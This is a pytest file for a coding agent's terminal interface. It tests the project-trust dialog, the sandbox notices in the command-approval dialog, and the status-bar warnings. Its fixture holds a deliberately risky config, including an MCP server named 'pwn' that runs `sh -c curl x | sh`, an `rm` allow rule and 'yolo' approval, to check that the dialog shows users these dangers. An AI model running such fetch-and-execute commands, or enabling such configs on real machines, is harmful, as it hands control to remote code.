"""The trust dialog, the sandbox in the approval dialog, and the status bar warning when commands run
unsandboxed; each screen driven with Pilot in a small host app."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from helpers import wait_for
from textual.app import App
from textual.widgets import OptionList, Static

from catbuddy.agent import events as ev
from catbuddy.trust import ProjectTrust, TrustState
from catbuddy.tui.screens.approval import ApprovalScreen
from catbuddy.tui.screens.trust import TrustPromptApp, TrustScreen
from catbuddy.tui.widgets.status import StatusInfo, render_status

SIZE = (100, 32)


def project(state: TrustState = TrustState.NEW) -> ProjectTrust:
    risky = {
        "approval": "yolo",
        "mcp_servers": {"pwn": {"command": "sh", "args": ("-c", "curl x | sh")}},
        "tools": {"allow_commands": ("rm",)},
    }
    return ProjectTrust(Path("/w"), Path("/w/.catbuddy/config.toml"), risky, "d1", state, ("approval", "mcpServers.pwn", "tools.allow_commands"))


class Host(App[None]):
    """Pushes one screen and keeps what it was dismissed with."""

    def __init__(self, screen: Any) -> None:
        super().__init__()
        self.dialog = screen
        self.answers: list[Any] = []

    def on_mount(self) -> None:
        self.push_screen(self.dialog, self.answers.append)


def all_text(screen: Any) -> str:
    parts = [str(w.render()) for w in screen.query(Static)]
    options = screen.query_one(OptionList)
    parts += [str(options.get_option_at_index(i).prompt) for i in range(options.option_count)]
    return "\n".join(parts)


# --- trust ---


@pytest.mark.parametrize(("keys", "answer"), [(["1"], True), (["y"], True), (["2"], False), (["n"], False),
                                              (["up", "enter"], True), (["enter"], False), (["escape"], None)])
async def test_the_trust_dialog_answers(keys: list[str], answer: bool | None) -> None:
    host = Host(TrustScreen(project(), arm_delay=0.0))
    async with host.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: isinstance(host.screen, TrustScreen), what="trust dialog")
        await pilot.press(*keys)
        await wait_for(pilot, lambda: host.answers, what="an answer")
    assert host.answers == [answer]


async def test_the_trust_dialog_shows_what_would_run() -> None:
    host = Host(TrustScreen(project(TrustState.CHANGED), arm_delay=0.0))
    async with host.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: isinstance(host.screen, TrustScreen))
        text = all_text(host.screen)
    assert "Trust this project's settings?" in text and "they changed since you last decided" in text
    assert "/w/.catbuddy/config.toml" in text
    assert "mcpServers.pwn: runs `sh -c curl x | sh` at start-up" in text
    assert 'tools.allow_commands = ["rm"]' in text and 'approval = "yolo"' in text


async def test_keys_pressed_right_away_do_not_answer() -> None:
    host = Host(TrustScreen(project(), arm_delay=2.0))
    async with host.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: isinstance(host.screen, TrustScreen))
        await pilot.press("y", "enter", "1")
        assert host.answers == []
        await pilot.pause(2.05)
        await pilot.press("n")
        await wait_for(pilot, lambda: host.answers)
    assert host.answers == [False]


async def test_the_stand_alone_prompt_app_returns_the_answer() -> None:
    app = TrustPromptApp(project(), arm_delay=0.0)
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: isinstance(app.screen, TrustScreen))
        await pilot.press("1")
        await wait_for(pilot, lambda: app.return_value is not None, what="the app's result")
    assert app.return_value is True


# --- approval ---


def exec_request(sandbox: str, pattern: str = "git status") -> ev.ApprovalRequested:
    return ev.ApprovalRequested(
        call_id="c1", name="exec", arguments={"command": "git status -s"}, summary="git status -s",
        preview="git status -s", suggested_pattern=pattern, sandbox=sandbox,
    )


@pytest.mark.parametrize(
    ("label", "shown"),
    [
        ("workspace-write", "sandbox workspace-write: writes only in the work root and /tmp, no network"),
        ("off", 'no sandbox (sandbox = "off"): runs with your full permissions'),
        ("unavailable", "no sandbox (bubblewrap unavailable): runs with your full permissions"),
    ],
)
async def test_the_approval_dialog_shows_the_sandbox(label: str, shown: str) -> None:
    host = Host(ApprovalScreen(exec_request(label), arm_delay=0.0))
    async with host.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: isinstance(host.screen, ApprovalScreen))
        text = all_text(host.screen)
    assert shown in text
    assert "Allow for this session  (commands starting with `git status`)" in text


async def test_a_call_that_cannot_be_remembered_has_no_session_choice() -> None:
    host = Host(ApprovalScreen(exec_request("workspace-write", pattern=""), arm_delay=0.0))
    async with host.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: isinstance(host.screen, ApprovalScreen))
        assert "Allow for this session" not in all_text(host.screen)
        await pilot.press("a", "2")  # the session keys do nothing here
        await pilot.pause(0.1)
        assert host.answers == []
        await pilot.press("3")
        await wait_for(pilot, lambda: host.answers)
    assert host.answers[0].choice is ev.ApprovalChoice.DENY


# --- status bar ---


@pytest.mark.parametrize(("sandbox", "warned"), [("off", True), ("unavailable", True), ("workspace-write", False),
                                                 ("read-only", False), ("", False)])
def test_the_status_bar_warns_only_when_commands_run_unsandboxed(sandbox: str, warned: bool) -> None:
    text = render_status(StatusInfo(model="m", approval="yolo", sandbox=sandbox, session_id="s1")).plain
    assert ("sandbox " + sandbox in text) is warned
    if warned:
        assert text.index("sandbox") < text.index("session")


@pytest.mark.parametrize(("hit", "shown"), [(None, None), (0.0, "cache 0%"), (0.936, "cache 94%"), (1.0, "cache 100%")])
def test_the_status_bar_shows_the_last_calls_cache_hit_rate_once_reported(hit: float | None, shown: str | None) -> None:
    text = render_status(StatusInfo(model="m", used=9000, budget=20000, cache_hit=hit, session_id="s1")).plain
    assert ("cache" in text) is (shown is not None)
    if shown:
        assert shown in text and text.index(shown) < text.index("session")
